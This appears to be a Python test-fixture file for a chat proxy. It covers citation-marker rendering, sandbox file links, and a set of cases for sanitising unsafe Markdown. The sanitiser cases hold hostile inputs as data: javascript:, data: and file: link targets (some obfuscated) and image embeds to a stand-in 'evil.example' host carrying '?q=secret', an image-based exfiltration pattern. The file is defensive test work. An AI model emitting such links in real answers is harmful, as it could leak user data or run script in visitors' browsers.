"""Answers of models, what back ends told of their sources, and what visitors are to read in the end.

For everything that shows answers: the loop, streams and objects over HTTP, and history.
"""

from msgspec import Struct

from deep_chat_proxy.turn.answer.marks import APART
from deep_chat_proxy.turn.events import ChatFile, Cited, FileKind, FileMade, Source

SITE = "https://openai.com/x"
PAGE = Cited("OpenAI", SITE, marker=f"([openai.com]({SITE}))")
REPORT = Cited("report.pdf", upstream_id="file-report", marker="【4:0†source】")
NOTES = Cited("notes.txt", upstream_id="file-notes", marker="【4:1†source】")
TABLE = FileMade("cfile-table", "table.csv", FileKind.ANY, marker="sandbox:/mnt/data/table.csv")


class AnswerCase(Struct, frozen=True):
    """The `parts` of an answer with its annotations, then its `text` without the list and its `sources`.

    Files made get the ids file-1, file-2 … in their order.
    """

    name: str
    parts: tuple[str, ...]
    text: str
    annotations: tuple[Cited | FileMade, ...] = ()
    sources: tuple[Source, ...] = ()

    def __str__(self) -> str:
        return self.name


def _plain(name: str, words: str, text: str) -> AnswerCase:
    return AnswerCase(name, (words,), text)


OWN = ChatFile("file-1", "table.csv", FileKind.ANY)
OWN_LINK = "deep-chat-file:file-1/table.csv"

CITED = (
    AnswerCase(
        "a web page in the words of the back end",
        (f"It rains ([openai.com]({SITE})).",),
        rf"It rains [\[1\]]({SITE}).",
        (PAGE,),
        (Source(1, "OpenAI", SITE),),
    ),
    AnswerCase(
        "a web page by the words in front of it",
        ("It rains. It pours. It rains.",),
        rf"It rains.[\[1\]]({SITE}) It pours. It rains.",
        (Cited("OpenAI", SITE, after="It rains."),),
        (Source(1, "OpenAI", SITE),),
    ),
    AnswerCase(
        "one marker for several sources, each in turn",
        ("Sales grew【4:0†source】, costs fell【4:0†source】.",),
        r"Sales grew\[1\], costs fell\[2\].",
        (REPORT, Cited("notes.txt", upstream_id="file-notes", marker="【4:0†source】")),
        (Source(1, "report.pdf"), Source(2, "notes.txt")),
    ),
    AnswerCase(
        "a file that cannot be fetched",
        ("Sales grew【4:0†source】.",),
        r"Sales grew\[1\].",
        (REPORT,),
        (Source(1, "report.pdf"),),
    ),
    AnswerCase(
        "numbers by the first place in the text",
        ("One【4:1†source】 two【4:0†source】 three【4:1†source】.",),
        r"One\[1\] two\[2\] three\[1\].",
        (REPORT, NOTES),
        (Source(1, "notes.txt"), Source(2, "report.pdf")),
    ),
    AnswerCase(
        "one source by several markers",
        ("One【4:0†source】 two【4:7†source】.",),
        r"One\[1\] two\[1\].",
        (REPORT, Cited("report.pdf", upstream_id="file-report", marker="【4:7†source】")),
        (Source(1, "report.pdf"),),
    ),
    AnswerCase(
        "a source without a place comes last",
        ("Only this【4:0†source】.",),
        r"Only this\[1\].",
        (Cited("OpenAI", SITE), REPORT),
        (Source(1, "report.pdf"), Source(2, "OpenAI", SITE)),
    ),
    AnswerCase(
        "a marker that names its file itself",
        ("One【4:0†report.pdf】 two【4:1†source】.",),
        r"One\[1\] two.",
        (),
        (Source(1, "report.pdf"),),
    ),
    AnswerCase(
        "an exclamation mark makes no picture of a number",
        ("It rains!【4:0†source】",),
        rf"It rains!{APART}[\[1\]]({SITE})",
        (Cited("OpenAI", SITE, marker="【4:0†source】"),),
        (Source(1, "OpenAI", SITE),),
    ),
    AnswerCase(
        "a file of the answer by its link and by its path",
        ("[The table](sandbox:/mnt/data/table.csv), see sandbox:/mnt/data/table.csv.",),
        f"[The table]({OWN_LINK}), see [table.csv]({OWN_LINK}).",
        (TABLE,),
    ),
    AnswerCase(
        "a picture of the sandbox",
        ("![The table](sandbox:/mnt/data/table.csv)",),
        f"[The table]({OWN_LINK})",
        (TABLE,),
    ),
    AnswerCase(
        "a file that the visitor can fetch as a source",
        ("Sales grew【4:0†source】.",),
        rf"Sales grew[\[1\]]({OWN_LINK}).",
        (TABLE, Cited("table.csv", upstream_id="cfile-table", marker="【4:0†source】")),
        (Source(1, "table.csv", file=OWN),),
    ),
    AnswerCase(
        "a file of the sandbox that nobody knows",
        ("[The table](sandbox:/mnt/data/other.csv), see sandbox:/mnt/data/other.csv.",),
        "The table, see other.csv.",
    ),
    AnswerCase(
        "several parts",
        ("One【4:0†source】.", "Two【4:1†source】.", "Three【4:0†source】."),
        "One\\[1\\].\n\nTwo\\[2\\].\n\nThree\\[1\\].",
        (REPORT, NOTES),
        (Source(1, "report.pdf"), Source(2, "notes.txt")),
    ),
    AnswerCase(
        "markers in code",
        ("```py\nx = 1【4:0†source】  # 【重要】 [a](b)\n```\n`y【4:0†source】` 【4:0†source】",),
        "```py\nx = 1  # 【重要】 [a](b)\n```\n`y` \\[1\\]",
        (REPORT,),
        (Source(1, "report.pdf"),),
    ),
    AnswerCase("broken off within a marker", ("It rains 【4:0†sou",), "It rains ", (REPORT,), (Source(1, "report.pdf"),)),
    AnswerCase("private characters", ("It rains\ue200cite\ue202turn0search0\ue201.",), "It rains."),
)  # fmt: skip

SAFE = (
    _plain("links of the web and of mail", *["[a](https://a.example/b_(c)?d#e) <https://a.example> [m](mailto:a@b.c)"] * 2),
    _plain("a script", "[click](javascript:alert(1)) me", "click me"),
    _plain("data", '[click](data:text/html;base64,PHNjcmlwdD4= "title") me', "click me"),
    _plain("schemes in any case", "[a](VBScript:x) [b](FILE:///etc) [c](JavaScript&colon;x)", "a b c"),
    _plain("relative targets", "[a](/x) [b](x) [c](//evil.example) [d](#e) [f]()", "a b c d f"),
    _plain("targets in disguise", "[a](java\\script:x) [b](&#106;avascript:x) [c]( \u00a0javascript:x) [d](\x01javascript:x)", "a b c d"),
    _plain("targets in angles", "[a](<javascript:x>) [b](<https://a.example>)", "a [b](<https://a.example>)"),
    _plain("brackets in a label", "[a [b] c](javascript:x)", "[a [b] c]\\(javascript:x)"),
    _plain("a label of several lines", "[a\nb](javascript:x)", "[a\nb]\\(javascript:x)"),
    _plain("a definition", "[a]\n\n[a]: javascript:x\n[b]: https://b.example", "[a]\n\n[a]\\: javascript:x\n[b]: https://b.example"),
    _plain("a target in the brackets of an address", "<javascript:x> <data:x> <a@b.example>", "\\<javascript:x> \\<data:x> <a@b.example>"),
    _plain("a picture", "Look: ![a chart](https://evil.example/p.png?q=secret).", "Look: [a chart](https://evil.example/p.png?q=secret)."),
    _plain("a picture without words", "![](https://evil.example/p.png)", "[evil.example](https://evil.example/p.png)"),
    _plain("a picture that is defined elsewhere", "![a][b]\n\n[b]: https://evil.example/p.png", "[a][b]\n\n[b]: https://evil.example/p.png"),
    _plain("a picture by its words alone", "![b]\n\n[b]: https://evil.example/p.png", "!\\[b]\n\n[b]: https://evil.example/p.png"),
    _plain("a picture in a link", "[![build](https://evil.example/b.svg)](https://a.example)", "[build](https://a.example)"),
    _plain("a target of our own", "[a](deep-chat-file:abc/b.csv)", "a"),
    _plain("a marker between a label and a target", "[a]【4:0†source】(javascript:x)", f"[a]{APART}(javascript:x)"),
    _plain("a fence", *["```md\n[a](javascript:x)\n![a](https://a.example)\n```\n\n~~~~\n```\n[a](b)\n~~~~"] * 2),
    _plain("a fence that never ends", *["```\n[a](javascript:x)"] * 2),
    _plain("a fence in a list", *["1. Run:\n\n   ```sh\n   f[a](b)\n   ```\n2. Or:\n    ```sh\n    f[a](b)\n    ```"] * 2),
    _plain("text behind a fence", "```\nx\n```\n[a](b)", "```\nx\n```\na"),
    _plain("code in a line", "`f[a](b)` and ``g[`a`](b)`` and f[a](b)", "`f[a](b)` and ``g[`a`](b)`` and fa"),
    _plain("a backtick without another", "a ` b [c](d)", "a ` b c"),
    _plain("code in two cells", "a ` | [c](d) | ` b", "a ` | c | ` b"),
    _plain("code by its indent", "Run:\n\n    f[a](b)\n\nThen [a](b)", "Run:\n\n    f[a](b)\n\nThen a"),
    _plain("an indent that makes no code", "- Run\n\n    [a](b)", "- Run\n\n    a"),
    _plain("escaped brackets", *[r"\[a\](javascript:x) \![b](https://b.example)"] * 2),
    _plain("text that looks like something", *["x < y, a[0], 5!, e.g. [1], 【重要】, f(x), a|b, [a] (b), C:\\dir, *b*, `c`, <T>"] * 2),
    _plain("a backtick in a marker on the line of a fence", "```【4:0†`】\n```\n![x](https://evil.example/i.png) [a](javascript:x)", "```\u2060\n```\n[x](https://evil.example/i.png) a"),
    _plain("a backtick in a mark between private characters", "```\ue200`\ue201\n```\n![x](https://evil.example/i.png) [a](javascript:x)", "```\u2060\n```\n[x](https://evil.example/i.png) a"),
    _plain("a backtick in a target on the line of a fence", "```[a](javascript:`)\n```\n![x](https://evil.example/i.png) [a](javascript:x)", "```a\n```\n[x](https://evil.example/i.png) a"),
    _plain("a backtick in a title", '```[a](x "`")\n```\n![x](https://evil.example/i.png) [a](javascript:x)', "```a\n```\n[x](https://evil.example/i.png) a"),
    _plain("a backtick in the words of a picture", "```[![a](x`)](https://a.b)\n```\n![x](https://evil.example/i.png) [a](javascript:x)", "```[a](https://a.b)\n```\n[x](https://evil.example/i.png) a"),
    _plain("a link without words in front of a fence", "[](x)~~~\n~~~\n![x](https://evil.example/i.png) [a](javascript:x)", "\u2060~~~\n~~~\n![x](https://evil.example/i.png) [a](javascript:x)"),
    _plain("a picture without words in front of a fence", "![](x)~~~\n~~~\n![x](https://evil.example/i.png) [a](javascript:x)", "\u2060~~~\n~~~\n![x](https://evil.example/i.png) [a](javascript:x)"),
    _plain("a marker as words in front of a fence", "[【4:0†source】](x)~~~\n~~~\n![x](https://evil.example/i.png) [a](javascript:x)", "\u2060~~~\n~~~\n![x](https://evil.example/i.png) [a](javascript:x)"),
    _plain("a link without words in front of a list", "[](x)- ```\n  ```\n  ![x](https://evil.example/i.png) [a](javascript:x)", "\u2060- ```\n  ```\n  ![x](https://evil.example/i.png) [a](javascript:x)"),
    _plain("code in three backticks on one line", "```a b``` and then\n\n```\n[a](b)\n```\nEnd.", "```a b``` and then\n\n```\n[a](b)\n```\nEnd."),
)  # fmt: skip

CASES = CITED + SAFE
